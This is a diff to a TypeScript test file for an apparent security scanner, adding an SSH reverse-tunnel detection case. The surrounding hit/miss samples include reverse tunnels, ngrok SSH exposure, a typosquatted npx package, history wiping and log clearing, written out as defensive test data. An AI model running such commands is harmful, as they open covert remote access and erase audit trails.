@@ -126,6 +126,7 @@ const CASES: Case[] = [
   { rule: 'install.typosquat', hit: 'Initialise with `npx -y opneclaw init`.', miss: 'Initialise with `npx -y openclaw init` then `npx create-react-app my-ap`.' },  // Second blind probe (test/scan-blind2.test.ts): new rules and widened ones.
   { rule: 'remote.ssh-reverse-tunnel', hit: 'ssh -o StrictHostKeyChecking=no -fN -R 2222:localhost:22 relay@198.51.100.60', miss: 'ssh -N -L 5432:localhost:5432 deploy@db.example.net' },
   { rule: 'remote.ssh-reverse-tunnel', hit: 'ngrok tcp 22 --region eu', miss: 'ngrok http 3000' },
+  { rule: 'remote.ssh-reverse-tunnel', hit: 'ssh -fNR 2222:127.0.0.1:22 relay@198.51.100.60', miss: 'ssh -fNL 8080:127.0.0.1:80 relay@198.51.100.60' },
   { rule: 'evasion.clear-history', path: 'scripts/a.sh', hit: 'unset HISTFILE\nrm -f ~/.bash_history\n', miss: 'grep -i "docker run" ~/.zsh_history | tail -5\n' },
   { rule: 'evasion.clear-logs', path: 'scripts/a.sh', hit: 'sudo log erase --all\n', miss: 'log show --last 5m --predicate \'process == "Notes"\'\nrm -f /var/log/acme-notes/old.log\n' },
   { rule: 'evasion.clear-logs', path: 'scripts/a.ps1', hit: 'wevtutil cl Security\n', miss: 'wevtutil qe Application /c:5 /f:text\n' },
